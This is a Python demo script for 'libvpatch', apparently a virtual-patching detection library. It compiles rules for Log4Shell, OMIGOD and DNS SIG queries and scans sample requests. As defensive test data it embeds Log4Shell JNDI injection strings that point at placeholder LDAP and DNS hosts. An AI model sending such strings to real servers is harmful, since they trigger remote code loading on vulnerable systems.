#!/usr/bin/env python3
"""libvpatch from Python, notebook style: compile a rule, scan payloads, print events.

Run it from the source tree after `ninja -C build`:

    python3 examples/python_demo.py

It uses an installed `vpatch` package when there is one, else the in-tree
binding (bindings/python) with the in-tree library (build/lib, or the
directory in VPATCH_LIBRARY_DIR).  Each `# %%` block is a notebook cell.
"""
# %% Setup: find the binding and the library
import os
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
try:
    import vpatch
except ImportError:
    sys.path.insert(0, os.path.join(ROOT, "bindings", "python"))
    os.environ.setdefault("VPATCH_LIBRARY_DIR", os.path.join(ROOT, "build", "lib"))
    import vpatch

print("libvpatch", vpatch.library_version())

# %% A rule with a mistake: every problem comes back at once, with positions
draft = """\
format: 1
rules:
  - id: 1011242
    name: Log4Shell JNDI lookup
    severity: critcal
    match:
      - content: "${jndi:"
        nocase: yes please
"""
try:
    vpatch.compile(draft, name="log4shell.yaml")
except vpatch.CompileError as err:
    print("first error at %s:%d:%d" % (err.file, err.line, err.column))
    for d in err.diagnostics:
        print("  ", d.code, "|", d)

# %% The fixed rules compile into bundle bytes (their embedded tests run too)
rules = """\
format: 1
ruleset: python-demo
rules:
  - id: 1011242
    name: Log4Shell JNDI lookup
    cve: [CVE-2021-44228]
    severity: critical
    cvss: 10.0
    ports: "80,443,8080"
    match:
      - content: "${jndi:"
        nocase: true
    tests:
      - data: "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\\r\\n\\r\\n"
        expect: match
      - data: "GET /?q=jndi HTTP/1.1\\r\\n\\r\\n"
        expect: nomatch

  - id: 2300001
    name: WS-Management POST without credentials (OMIGOD)
    cve: [CVE-2021-38647]
    severity: critical
    ports: "5985,5986,1270"
    match:
      - content: "POST /wsman"
        depth: 11
      - content: "Authorization:"
        nocase: true
        negate: true

  - id: 3000001
    name: DNS query for a SIG record
    severity: medium
    action: detect
    protocol: udp
    ports: 53
    match:
      - hex: "00 18 00 01"
"""
bundle_bytes = vpatch.compile(rules, name="demo.yaml", serial=1)
bundle = vpatch.Bundle.load(bundle_bytes)
print(bundle, "-", len(bundle_bytes), "bytes")
for rule in bundle.rules:
    print("  %-8d %-50s %-8s %-6s %s" % (rule.id, rule.name, rule.severity, rule.action,
                                         ",".join(rule.cve) or "-"))

# %% An engine in security mode; one stream per direction of a flow
engine = vpatch.Engine(bundle, mode="security")
print(engine, "-", engine.stream_size, "bytes per open stream")


def show(label, events):
    print(label)
    for e in events:
        print("   rule %d %r at offset %d: %s/%s %s" % (e.rule_id, e.name, e.offset, e.action,
                                                     e.verdict, ",".join(e.cve)))
    if not events:
        print("   (no events)")


# The attack arrives in two TCP segments; the pattern is split between them.
with engine.stream("tcp", 8080, "to_server") as stream:
    show("segment 1", stream.scan(b"GET /search?q=${jn"))
    show("segment 2", stream.scan(b"di:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: shop.example\r\n\r\n"))
print("verdict:", stream.verdict, "after", stream.offset, "bytes")

# %% A benign request on the same port
with engine.stream("tcp", 8080, "to_server") as stream:
    show("benign", stream.scan(b"GET /search?q=jndi+tutorial HTTP/1.1\r\nHost: shop.example\r\n\r\n"))
print("verdict:", stream.verdict)

# %% Negation: decided when the stream ends, so the events come from close()
with engine.stream("tcp", 5985, "to_server") as stream:
    show("wsman request", stream.scan(b"POST /wsman HTTP/1.1\r\nHost: 192.0.2.5\r\n"
                                      b"Content-Length: 0\r\n\r\n"))
    show("close", stream.close())
print("verdict:", stream.verdict)

# %% UDP: each datagram is a stream of its own
query = bytes.fromhex("1a2b 0100 0001 0000 0000 0000") + b"\x07example\x04test\x00" + \
    bytes.fromhex("0018 0001")
show("DNS SIG query", engine.scan_datagram("udp", 53, "to_server", query))

# %% The same traffic in detect-only mode: events, but nothing is blocked
watch = vpatch.Engine(bundle, detect_only=True)
with watch.stream("tcp", 80, "to_server") as stream:
    show("detect-only", stream.scan(b"GET /?x=${JNDI:dns://203.0.113.9/q} HTTP/1.1\r\n\r\n"))
print("verdict:", stream.verdict)
